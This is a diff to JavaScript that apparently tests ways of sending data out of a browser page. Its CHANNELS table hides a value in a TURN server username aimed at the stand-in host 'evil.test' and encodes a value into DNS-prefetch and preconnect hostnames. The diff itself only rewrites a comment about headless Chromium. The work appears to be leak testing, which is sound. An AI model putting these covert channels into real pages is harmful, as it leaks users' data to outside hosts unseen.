@@ -41,8 +41,8 @@ const CHANNELS = {
   stun: (value) => peer({
     urls: `turn:${asked.get("at") ?? "evil.test"}:${document.querySelector("#stun").textContent}?transport=udp`, username: value, credential: "x",
   }),
-  // The value is in the name that is looked up. chromium-headless-shell ignores both hints (it has no handler for
-  // them), so the look-up that always happens is that of a request; what its path says does not matter.
+  // The value is in the name that is looked up. Chromium follows both hints, but not with the arguments that Playwright
+  // starts it with, and chromium-headless-shell never does. The look-up that always happens is that of a request.
   dns: (value) => {
     link("dns-prefetch", `//${inName(value)}`);
     link("preconnect", `https://${inName(value)}`);
